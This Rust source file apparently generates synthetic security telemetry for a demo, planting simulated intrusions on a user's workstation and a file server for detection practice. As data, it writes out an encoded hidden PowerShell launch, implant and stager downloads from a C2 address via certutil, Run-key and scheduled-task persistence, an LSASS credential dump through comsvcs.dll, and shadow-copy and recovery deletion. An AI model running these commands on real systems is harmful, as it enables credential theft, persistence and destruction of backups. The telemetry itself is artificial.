//! The planted intrusions on endpoints: dana's workstation and the file server.

use super::{Planter, ENCODED};
use crate::demo::benign::security::{security_logon, Logon};
use crate::demo::clock::{HOUR, MINUTE, SECOND};
use crate::demo::fields::{device_header, initiating, Actor, Fields, Proc};
use crate::demo::rules::{C2_DOMAIN, C2_IP};
use crate::demo::software::Img;
use crate::demo::world::{Device, User, NETBIOS};
use rand::Rng;
use serde_json::json;

/// Scenarios `office-macro`, `run-key`, `c2-beacon` and `lsass-dump` on dana's workstation.
pub(crate) fn workstation_intrusion(p: &mut Planter<'_>, start: i64, ws: &Device, dana: &User) {
    let world = p.world;
    let user = Actor::of(dana);
    let admin = user.elevated();
    let home = format!(r"C:\Users\{}", dana.sam);
    let attachment = format!(
        r"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K7Q2M1ZD\Invoice_88213.docm"
    );
    let outlook_cmd = format!("\"{}\" ", Img::Outlook.path());
    let outlook = Proc {
        img: Img::Outlook,
        cmd: &outlook_cmd,
        pid: 7412,
        started: start - 50 * MINUTE,
        parent: Img::Explorer,
        parent_pid: 5124,
        actor: user,
    };
    p.file(start, ws, &outlook, &attachment, 48_640, "");

    let word_cmd = format!("\"{}\" /n \"{attachment}\" /o \"\"", Img::Winword.path());
    let word = Proc {
        img: Img::Winword,
        cmd: &word_cmd,
        pid: 9120,
        started: start + 25 * SECOND,
        parent: Img::Outlook,
        parent_pid: outlook.pid,
        actor: user,
    };
    p.process(word.started, ws, &outlook, &word);

    let ps_cmd = format!("powershell.exe -NoP -NonI -W Hidden -enc {ENCODED}");
    let powershell = Proc {
        img: Img::PowerShell,
        cmd: &ps_cmd,
        pid: 5588,
        started: start + 58 * SECOND,
        parent: Img::Winword,
        parent_pid: word.pid,
        actor: user,
    };
    p.process(powershell.started, ws, &word, &powershell);
    let url = format!("http://{C2_IP}/a");
    p.connect(
        powershell.started + 2 * SECOND,
        ws,
        &powershell,
        C2_IP,
        80,
        &url,
    );
    let implant_path = Img::Implant.path();
    let origin = format!("http://{C2_IP}/msteamsupd.exe");
    p.file(
        powershell.started + 6 * SECOND,
        ws,
        &powershell,
        implant_path,
        312_832,
        &origin,
    );

    // Persistence: the implant in the roaming profile, started at every logon.
    let run_time = powershell.started + 9 * SECOND;
    let mut f = Fields::new("DeviceRegistryEvents");
    device_header(&mut f, run_time, ws, 0);
    f.text("ActionType", "RegistryValueSet")
        .text(
            "RegistryKey",
            format!(
                r"HKEY_CURRENT_USER\{}\Software\Microsoft\Windows\CurrentVersion\Run",
                dana.sid
            ),
        )
        .text("RegistryValueType", "String")
        .text("RegistryValueName", "TeamsUpdate")
        .text("RegistryValueData", format!("\"{implant_path}\" --silent"));
    initiating(&mut f, world, &powershell);
    p.push(run_time, f.into_record());

    let implant_cmd = format!("\"{implant_path}\" --silent");
    let implant = Proc {
        img: Img::Implant,
        cmd: &implant_cmd,
        pid: 3320,
        started: powershell.started + 12 * SECOND,
        parent: Img::PowerShell,
        parent_pid: powershell.pid,
        actor: user,
    };
    p.process(implant.started, ws, &powershell, &implant);

    // Beaconing: every five minutes (a few seconds of jitter) for a day.
    let mut beat = implant.started + 30 * SECOND;
    for _ in 0..288 {
        let url = format!("https://{C2_DOMAIN}/api/v2/status");
        p.connect(beat, ws, &implant, C2_IP, 443, &url);
        beat += 5 * MINUTE + p.rng.random_range(-4..=4) * SECOND;
    }

    // Credential access: dump LSASS with the built-in comsvcs.dll, from an elevated shell.
    let dump = 84 * MINUTE;
    let cmd_line = r"C:\Windows\system32\cmd.exe /c rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 788 C:\Temp\l.dmp full";
    let implant_admin = Proc {
        actor: admin,
        ..implant
    };
    let shell = Proc {
        img: Img::Cmd,
        cmd: cmd_line,
        pid: 6104,
        started: start + dump,
        parent: Img::Implant,
        parent_pid: implant.pid,
        actor: admin,
    };
    p.process(shell.started, ws, &implant_admin, &shell);
    let rundll = Proc {
        img: Img::Rundll32,
        cmd: r"rundll32.exe  C:\Windows\System32\comsvcs.dll, MiniDump 788 C:\Temp\l.dmp full",
        pid: 4772,
        started: shell.started + SECOND,
        parent: Img::Cmd,
        parent_pid: shell.pid,
        actor: admin,
    };
    p.process(rundll.started, ws, &shell, &rundll);
    p.file(
        rundll.started + 3 * SECOND,
        ws,
        &rundll,
        r"C:\Temp\l.dmp",
        52_480_131,
        "",
    );
}

/// Scenarios `certutil-download`, `scheduled-task` and `inhibit-recovery` on the file server.
pub(crate) fn file_server_intrusion(
    p: &mut Planter<'_>,
    start: i64,
    fs: &Device,
    rds: &Device,
    admin: &User,
) {
    let world = p.world;
    let actor = Actor::of(admin);
    let account = (admin.sam.as_str(), NETBIOS, admin.sid.as_str());
    let logon = Logon {
        computer: fs,
        event_id: 4624,
        account,
        machine: false,
        logon_type: 10,
        ip: &rds.ip,
        workstation: &rds.short,
        package: "Negotiate",
        sub_status: "",
    };
    let record = security_logon(start - 2 * MINUTE, &logon, &mut p.rng).into_record();
    p.push(start - 2 * MINUTE, record);

    let explorer = Proc {
        img: Img::Explorer,
        cmd: r"C:\Windows\Explorer.EXE",
        pid: 8836,
        started: start - 2 * MINUTE,
        parent: Img::Userinit,
        parent_pid: 8790,
        actor,
    };
    let shell = Proc {
        img: Img::Cmd,
        cmd: r#""C:\Windows\system32\cmd.exe" "#,
        pid: 2208,
        started: start - MINUTE,
        parent: Img::Explorer,
        parent_pid: explorer.pid,
        actor,
    };
    p.process(shell.started, fs, &explorer, &shell);

    let stager = Img::Stager.path();
    let download =
        format!("certutil.exe  -urlcache -split -f http://{C2_IP}/svchelper.exe {stager}");
    let certutil = Proc {
        img: Img::Certutil,
        cmd: &download,
        pid: 7720,
        started: start,
        parent: Img::Cmd,
        parent_pid: shell.pid,
        actor,
    };
    p.process(certutil.started, fs, &shell, &certutil);
    let url = format!("http://{C2_IP}/svchelper.exe");
    p.connect(start + SECOND, fs, &certutil, C2_IP, 80, &url);
    p.file(start + 3 * SECOND, fs, &certutil, stager, 1_204_224, &url);

    let create = format!(
        r#"schtasks.exe  /create /tn "\Microsoft\Windows\Maintenance\SysHealth" /tr "{stager}" /sc onstart /ru SYSTEM /f"#
    );
    let schtasks = Proc {
        img: Img::Schtasks,
        cmd: &create,
        pid: 1936,
        started: start + 2 * MINUTE,
        parent: Img::Cmd,
        parent_pid: shell.pid,
        actor,
    };
    p.process(schtasks.started, fs, &shell, &schtasks);
    let mut f = Fields::new("DeviceEvents");
    device_header(&mut f, schtasks.started + SECOND, fs, 0);
    f.text("ActionType", "ScheduledTaskCreated").json(
        "AdditionalFields",
        json!({
            "TaskName": r"\Microsoft\Windows\Maintenance\SysHealth",
            "TaskContent": format!("<Task><Triggers><BootTrigger/></Triggers><Actions><Exec><Command>{stager}</Command></Exec></Actions></Task>"),
        }),
    );
    initiating(&mut f, world, &schtasks);
    p.push(schtasks.started + SECOND, f.into_record());

    // Before encryption: remove the shadow copies and the recovery options (early next morning).
    let wipe = start + 2 * HOUR + 49 * MINUTE;
    let batch = Proc {
        img: Img::Cmd,
        cmd: r#"cmd.exe /c "vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no""#,
        pid: 4420,
        started: wipe,
        parent: Img::Explorer,
        parent_pid: explorer.pid,
        actor,
    };
    p.process(wipe, fs, &explorer, &batch);
    let steps = [
        (Img::Vssadmin, r"vssadmin  delete shadows /all /quiet", 5012),
        (Img::Wmic, r"wmic  shadowcopy delete", 5140),
        (
            Img::Bcdedit,
            r"bcdedit  /set {default} recoveryenabled no",
            5288,
        ),
    ];
    for (k, (img, cmd, pid)) in steps.into_iter().enumerate() {
        let time = wipe + (2 + 3 * k as i64) * SECOND;
        let child = Proc {
            img,
            cmd,
            pid,
            started: time,
            parent: Img::Cmd,
            parent_pid: batch.pid,
            actor,
        };
        p.process(time, fs, &batch, &child);
    }
}
